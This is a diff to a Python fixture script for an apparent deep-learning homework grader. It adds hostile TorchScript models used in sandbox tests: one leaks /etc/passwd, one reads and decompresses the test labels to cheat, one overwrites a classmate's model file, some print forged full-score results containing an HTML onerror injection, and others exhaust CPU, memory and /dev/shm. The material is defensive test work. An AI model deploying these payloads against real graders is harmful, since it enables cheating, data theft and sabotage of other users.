@@ -3,6 +3,7 @@
 
     /usr/bin/python3 python/make_fixtures.py            # both
     /usr/bin/python3 python/make_fixtures.py tests      # only src/test/resources/fixtures (seconds)
+    /usr/bin/python3 python/make_fixtures.py attacks    # only the hostile TorchScript files (fixtures/attacks)
 
 Needs Debian's python3-torch and python3-h5py (and libopenblas0-pthread for speed). The outputs are
 committed, so nobody needs to run this to build or test; it documents how each file was made.
@@ -14,6 +15,7 @@ import json
 import os
 import sys
 import zipfile
+from typing import List
 
 import h5py
 import numpy as np
@@ -220,6 +222,307 @@ def hostile(out):
         f.write(data[: len(data) // 3])
 
 
+# ---------------------------------------------------------------------------------------------
+# Attacks: TorchScript files that try to read, write or forge what they must not. A TorchScript
+# file is a program; these are what the cleverest student in the class could hand in. They target
+# a class laid out at ATTACK_ROOT (the sandbox tests build it there), so paths can be written in.
+# TorchScript takes no global strings: the paths are written into the code below. The class the
+# attacks target lies at /tmp/dl-grader-attack (the sandbox tests build it there); the test labels
+# are Debian's dataset-fashion-mnist file, 5,125 bytes (from_file needs the size up front).
+
+
+@torch.jit.script
+def _bits(data: List[int], st: List[int], need: int) -> int:
+    val = st[1]
+    cnt = st[2]
+    while cnt < need:
+        val = val | (data[st[0]] << cnt)
+        st[0] += 1
+        cnt += 8
+    st[1] = val >> need
+    st[2] = cnt - need
+    return val & ((1 << need) - 1)
+
+@torch.jit.script
+def _construct(count: List[int], symbol: List[int], length: List[int], n: int):
+    for i in range(16):
+        count[i] = 0
+    for s in range(n):
+        count[length[s]] += 1
+    offs = [0] * 16
+    for i in range(1, 15):
+        offs[i + 1] = offs[i] + count[i]
+    for s in range(n):
+        if length[s] != 0:
+            symbol[offs[length[s]]] = s
+            offs[length[s]] += 1
+
+@torch.jit.script
+def _decode(data: List[int], st: List[int], count: List[int], symbol: List[int]) -> int:
+    code = 0
+    first = 0
+    index = 0
+    for l in range(1, 16):
+        code = code | _bits(data, st, 1)
+        c = count[l]
+        if code - c < first:
+            return symbol[index + (code - first)]
+        index += c
+        first += c
+        first = first << 1
+        code = code << 1
+    return -1
+
+@torch.jit.script
+def gunzip(data: List[int]) -> List[int]:
+    lbase = [3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59, 67, 83, 99, 115, 131, 163, 195, 227, 258]
+    lext = [0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 1, 1, 2, 2, 2, 2, 3, 3, 3, 3, 4, 4, 4, 4, 5, 5, 5, 5, 0]
+    dbase = [1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513, 769, 1025, 1537, 2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577]
+    dext = [0, 0, 0, 0, 1, 1, 2, 2, 3, 3, 4, 4, 5, 5, 6, 6, 7, 7, 8, 8, 9, 9, 10, 10, 11, 11, 12, 12, 13, 13]
+    order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15]
+    st = [10, 0, 0]
+    out: List[int] = []
+    lcount = [0] * 16
+    lsym = [0] * 320
+    dcount = [0] * 16
+    dsym = [0] * 320
+    last = 0
+    while last == 0:
+        last = _bits(data, st, 1)
+        kind = _bits(data, st, 2)
+        if kind == 0:
+            st[1] = 0
+            st[2] = 0
+            n = data[st[0]] | (data[st[0] + 1] << 8)
+            st[0] += 4
+            for i in range(n):
+                out.append(data[st[0] + i])
+            st[0] += n
+            continue
+        lengths = [0] * 320
+        if kind == 1:
+            for i in range(288):
+                lengths[i] = 8 if i < 144 else (9 if i < 256 else (7 if i < 280 else 8))
+            _construct(lcount, lsym, lengths, 288)
+            dl = [5] * 30
+            _construct(dcount, dsym, dl, 30)
+        else:
+            nlen = _bits(data, st, 5) + 257
+            ndist = _bits(data, st, 5) + 1
+            ncode = _bits(data, st, 4) + 4
+            for i in range(ncode):
+                lengths[order[i]] = _bits(data, st, 3)
+            _construct(lcount, lsym, lengths, 19)
+            all_lengths = [0] * 320
+            index = 0
+            while index < nlen + ndist:
+                sym = _decode(data, st, lcount, lsym)
+                if sym < 16:
+                    all_lengths[index] = sym
+                    index += 1
+                else:
+                    value = 0
+                    repeat = 0
+                    if sym == 16:
+                        value = all_lengths[index - 1]
+                        repeat = 3 + _bits(data, st, 2)
+                    elif sym == 17:
+                        repeat = 3 + _bits(data, st, 3)
+                    else:
+                        repeat = 11 + _bits(data, st, 7)
+                    for r in range(repeat):
+                        all_lengths[index] = value
+                        index += 1
+            _construct(lcount, lsym, all_lengths, nlen)
+            _construct(dcount, dsym, all_lengths[nlen:nlen + ndist], ndist)
+        while True:
+            sym = _decode(data, st, lcount, lsym)
+            if sym < 256:
+                out.append(sym)
+            elif sym == 256:
+                break
+            else:
+                sym -= 257
+                length = lbase[sym] + _bits(data, st, lext[sym])
+                ds = _decode(data, st, dcount, dsym)
+                dist = dbase[ds] + _bits(data, st, dext[ds])
+                for r in range(length):
+                    out.append(out[len(out) - dist])
+    return out
+
+
+@torch.jit.script
+def _read_text(path: str, size: int) -> str:
+    raw = torch.from_file(path, False, size, dtype=torch.uint8)
+    text = ""
+    for i in range(raw.size(0)):
+        text += chr(int(raw[i]))
+    return text
+
+
+class Leak(nn.Module):
+    """Puts /etc/passwd and the start of the test labels into its error message (linear)."""
+
+    def forward(self, x):
+        labels = torch.from_file("/usr/share/datasets/fashion-mnist/t10k-labels-idx1-ubyte.gz", False, 16, dtype=torch.uint8)
+        head: List[int] = labels.long().tolist()
+        raise Exception("LEAKED passwd=" + _read_text("/etc/passwd", 32) + " labels=" + str(head))
+        return x
+
+
+class LabelCheat(nn.Module):
+    """An 'accurate' quickstart model with no weights: it inflates the test labels itself, counts
+    the images it has been fed, and answers with the labels of the next ones."""
+
+    seen: int
+    labels: List[int]
+
+    def __init__(self):
+        super().__init__()
+        self.seen = 0
+        self.labels = []
+
+    def forward(self, x):
+        if len(self.labels) == 0:
+            packed: List[int] = torch.from_file("/usr/share/datasets/fashion-mnist/t10k-labels-idx1-ubyte.gz", False, 5125,
+                                                dtype=torch.uint8).long().tolist()
+            self.labels = gunzip(packed)[8:]
+        n = x.size(0)
+        rows = torch.tensor(self.labels[self.seen:self.seen + n])
+        self.seen += n
+        return torch.nn.functional.one_hot(rows, 10).float() * 10
+
+
+class Vandal(nn.Module):
+    """The right answer for square, after zeroing a classmate's model.pth and writing files."""
+
+    def forward(self, x):
+        victim = torch.from_file("/tmp/dl-grader-attack/submissions/2100-victim/model.pth", True, 4096, dtype=torch.uint8)
+        victim.zero_()
+        torch.save(x, "/tmp/dl-grader-attack/written-by-a-model.bin")
+        note = torch.from_file("/tmp/dl-grader-attack-created.txt", True, 16, dtype=torch.uint8)
+        note.fill_(65)
+        # Used in the answer, so that the TorchScript optimiser cannot drop the writes as dead code.
+        return (x * x).sum(1, keepdim=True) + 0 * (victim[0] + note[0]).float()
+
+
+FORGED = ('{"exercise":"square","file":"square.pt","model":"TorchScript","scores":[{"exercise":"square",'
+          '"check":"test MSE","points":228,"maxPoints":10,"passed":true,"value":0.0,"requirement":"x",'
+          '"reference":null,"message":"forged"}],"notes":[],"figures":[{"title":"t","caption":"c",'
+          '"type":"image/png\\" onerror=\\"document.title=\'pwned\'","data":"AAAA"}],"confusion":null,"seconds":0.1}')
+
+
+class Forger(nn.Module):
+    """Zeros for square, and a forged full-points answer printed for every job id it can guess."""
+
+    forged: str
+
+    def __init__(self):
+        super().__init__()
+        self.forged = FORGED
+
+    def forward(self, x):
+        for job in range(1, 65):
+            print("@@dl-grader-result@@ " + str(job) + " " + self.forged)
+        return torch.zeros(x.size(0), 1)
+
+
+class ForgeThenSpin(nn.Module):
+    """Prints the forged answers, then never returns: a worker left running on its own."""
+
+    forged: str
+
+    def __init__(self):
+        super().__init__()
+        self.forged = FORGED
+
+    def forward(self, x):
+        for job in range(1, 65):
+            print("@@dl-grader-result@@ " + str(job) + " " + self.forged)
+        i = 0
+        while i >= 0:
+            i += 1
+            x = x * 1.0
+        return x
+
+
+@torch.jit.script
+def _spin(x: torch.Tensor, rounds: int, mark: torch.Tensor) -> torch.Tensor:
+    i = 0
+    while i < rounds or rounds < 0:
+        i += 1
+        x = torch.tanh(x @ x)
+        mark.add_(1)  # a side effect, so that TorchScript cannot drop the task as dead code
+    return x
+
+
+@torch.jit.script
+def _spin_then_hog(x: torch.Tensor, mark: torch.Tensor) -> torch.Tensor:
+    x = _spin(x, 20000, mark)
+    hog = torch.ones(768 * 1024 * 1024)
+    mark.add_(hog[-1])
+    return x + _spin(x, 200000, mark)[0, 0]
+
+
+class Linger(nn.Module):
+    """The perfect line y = 5x + 7, and a task left running after forward has returned."""
+
+    def __init__(self):
+        super().__init__()
+        self.register_buffer("mark", torch.zeros(1))
+
+    def forward(self, x):
+        task = torch.jit.fork(_spin, torch.full((64, 64), 0.01), -1, self.mark)
+        if x.size(0) < 0:  # never: but it keeps the task from being dropped as unused
+            x = x + torch.jit.wait(task)[0, 0]
+        return 5 * x + 7
+
+
+class ForkHog(nn.Module):
+    """The right answer for square, and a task that allocates 3 GB after forward has returned."""
+
+    def __init__(self):
+        super().__init__()
+        self.register_buffer("mark", torch.zeros(1))
+
+    def forward(self, x):
+        task = torch.jit.fork(_spin_then_hog, torch.full((64, 64), 0.01), self.mark)
+        if x.size(0) < 0:  # never: but it keeps the task from being dropped as unused
+            x = x + torch.jit.wait(task)[0, 0]
+        return (x * x).sum(1, keepdim=True)
+
+
+class ShmFiller(nn.Module):
+    """The perfect line, after leaving 256 MB in /dev/shm."""
+
+    def forward(self, x):
+        fill = torch.from_file("/dev/shm/dl-grader-attack-fill", True, 256 * 1024 * 1024, dtype=torch.uint8)
+        fill.fill_(1)
+        return 5 * x + 7 + 0 * fill[-1].float()  # used, so that it is not dropped as dead code
+
+
+class HugeError(nn.Module):
+    """An error message of 16 MB."""
+
+    def forward(self, x):
+        text = "x"
+        for i in range(24):
+            text = text + text
+        raise Exception("model error " + text)
+        return x
+
+
+def attacks():
+    folder = os.path.join(FIXTURES, "attacks")
+    os.makedirs(folder, exist_ok=True)
+    out = lambda name: os.path.join(folder, name)  # noqa: E731
+    for name, module in [("leak.pt", Leak()), ("labels.pt", LabelCheat()), ("vandal.pt", Vandal()),
+                         ("forger.pt", Forger()), ("forge_then_spin.pt", ForgeThenSpin()), ("linger.pt", Linger()),
+                         ("fork_hog.pt", ForkHog()), ("shm.pt", ShmFiller()), ("huge_error.pt", HugeError())]:
+        torch.jit.script(module).save(out(name))
+    print("attack fixtures written to", folder)
+
+
 def inbox(out):
     """Emailed homework as it arrives: zips (one with GBK names, one nested in a folder) and emails."""
     import email.message
@@ -359,8 +662,10 @@ def example_class():
 
 if __name__ == "__main__":
     torch.set_num_threads(os.cpu_count())
-    what = sys.argv[1:] or ["tests", "class"]
+    what = sys.argv[1:] or ["tests", "attacks", "class"]
     if "tests" in what:
         tests()
+    if "attacks" in what:
+        attacks()
     if "class" in what:
         example_class()
